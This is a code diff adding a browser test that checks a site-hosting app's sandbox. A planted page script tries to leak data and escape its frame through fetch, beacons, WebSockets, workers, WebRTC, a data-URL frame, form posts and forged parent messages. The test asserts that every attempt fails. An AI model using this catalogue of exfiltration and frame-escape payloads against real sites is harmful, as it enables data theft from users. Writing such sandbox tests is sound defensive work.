@@ -1,3 +1,4 @@
+import { createSocket } from 'node:dgram'
 import { createServer, type Server } from 'node:http'
 import { expect, test } from './test.ts'
 import { bringIn, bytes, inFrame, openSite, pageFrames, stored } from './helpers.ts'
@@ -91,6 +92,102 @@ test('a hostile page reaches neither Attire’s data nor its routes nor anything
   )
   expect(names).not.toContain('forged')
   expect((await stored(request, victim)).texts['index.html']).toBe('<p>secret')
+})
+
+test('the scripts of a site run when that is asked for, reach nothing, and change nothing of the workroom', async ({
+  page,
+  request,
+  baseURL,
+}) => {
+  visits = []
+  const packets: string[] = []
+  const ear = createSocket('udp4', (message) => packets.push(message.toString('latin1')))
+  await new Promise<void>((resolve) => void ear.bind(0, '127.0.0.1', resolve))
+  const victim = await bringIn(request, 'Victim of scripts', { 'index.html': bytes('<p>secret') })
+  const tries = `
+    const tried = (name, work) => { try { const made = work(); made?.catch?.(() => {}) } catch {} }
+    const everything = (w, peers) => {
+      for (const to of ['${outsideAddress}/', '${baseURL}/api/sites/${victim}', '/api/sites', '${baseURL}/wear/${victim}/x/index.html']) {
+        tried('fetch', () => w.fetch(to).then(() => { document.title = 'stolen' }))
+        tried('keepalive', () => w.fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }))
+        tried('xhr', () => { const r = new w.XMLHttpRequest(); r.open('GET', to); r.onload = () => { document.title = 'stolen' }; r.send() })
+        tried('beacon', () => w.navigator.sendBeacon(to, 'x'))
+        tried('events', () => new w.EventSource(to))
+        tried('socket', () => new w.WebSocket(to.replace('http', 'ws')))
+        tried('image', () => { new w.Image().src = to + '?image' })
+        tried('worker', () => new w.Worker(to))
+        tried('blob worker', () => new w.Worker(URL.createObjectURL(new Blob(['fetch("' + to + '")']))))
+        tried('service', () => w.navigator.serviceWorker.register(to))
+        tried('open', () => w.open(to))
+        tried('import', () => eval('import("' + to + 'x.js")'))
+        tried('css', () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + '.css'; document.head.append(l) })
+        tried('prefetch', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to; document.head.append(l) })
+        tried('script', () => { const s = document.createElement('script'); s.src = to + '.js'; document.head.append(s) })
+        tried('frame', () => { const f = document.createElement('iframe'); f.src = to; document.body.append(f) })
+        tried('form', () => { const f = document.createElement('form'); f.action = to; f.method = 'post'; document.body.append(f); f.submit() })
+        tried('top', () => { top.location = to })
+        tried('parent', () => { parent.document.title = 'stolen' })
+      }
+      if (peers) tried('peer', () => {
+        const peer = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${ear.address().port}' }] })
+        peer.createDataChannel('x')
+        peer.createOffer().then((offer) => peer.setLocalDescription(offer))
+      })
+      tried('store', () => { localStorage.x = document.cookie = 'x=1' })
+    }
+    addEventListener('load', () => {
+      document.querySelector('#mark').textContent = 'ran'
+      document.querySelector('#mark').insertAdjacentHTML('beforebegin', '<b id="made">made</b>')
+      everything(window, true)
+      const inner = document.createElement('iframe')
+      document.body.append(inner)
+      // A frame within has constructors of its own, and no browser lets these be taken away in time; see docs/reliability.md.
+      everything(inner.contentWindow, false)
+      const data = document.createElement('iframe')
+      data.src = 'data:text/html,<script>fetch("${outsideAddress}/data");new Image().src="${outsideAddress}/data.png"</' + 'script>'
+      document.body.append(data)
+      for (const key of ['z', 'Z', 'y']) parent.postMessage({ attire: 1, message: { type: 'key', key, code: 'KeyZ', ctrl: true, shift: false, alt: false } }, '*')
+      const leave = (to) => addEventListener('click', () => { location = to })
+      leave('${outsideAddress}/left')
+      leave('${baseURL}/api/sites/${victim}')
+    })`
+  const site = await bringIn(request, 'Scripted', {
+    'index.html': bytes(
+      `<!doctype html><title>x</title><link rel="stylesheet" href="site.css"><p id="mark">here</p><script src="own.js"></script><script>${tries}</script>`,
+    ),
+    'own.js': bytes('document.documentElement.dataset.own = "ran"'),
+    'site.css': bytes('p { color: red }'),
+  })
+  const answers: string[] = []
+  page.on('response', (answer) => {
+    const { pathname } = new URL(answer.url())
+    if (answer.frame() !== page.mainFrame() && !pathname.startsWith(`/wear/${site}/`) && pathname !== '/bridge.js')
+      answers.push(answer.url())
+  })
+  await openSite(page, site)
+  await expect(page.frameLocator('iframe').locator('#mark')).toHaveText('here')
+  await page.getByRole('button', { name: 'its scripts are off here' }).click()
+  await page.getByRole('button', { name: 'Let them run' }).click()
+  await expect(page.getByRole('button', { name: 'its scripts run here' })).toBeVisible()
+  await page.getByRole('button', { name: 'Open index.html in a close-up' }).click()
+  const close = page.frameLocator('iframe[title^="Close-up"]')
+  await expect(close.locator('#mark')).toHaveText('ran')
+  expect(await close.locator('html').getAttribute('data-own')).toBe('ran')
+  await close.locator('#made').click()
+  await expect(page.getByText('A script of the page made this part')).toBeVisible()
+  await page.waitForTimeout(1500)
+
+  expect(visits).toEqual([])
+  expect(answers).toEqual([])
+  expect(packets).toEqual([])
+  expect(page.url()).toBe(`${baseURL}/site/${site}`)
+  expect(page.context().pages()).toHaveLength(1)
+  expect(await page.title()).toBe('Attire')
+  expect((await stored(request, victim)).texts['index.html']).toBe('<p>secret')
+  // A window opened anew runs no script: one that never ends cannot shut a site away.
+  await page.reload()
+  await expect(page.getByRole('button', { name: 'its scripts are off here' })).toBeVisible()
+  ear.close()
 })
 
 test('a frame cannot pass itself off as the bridge with messages of another shape', async ({ page, request }) => {
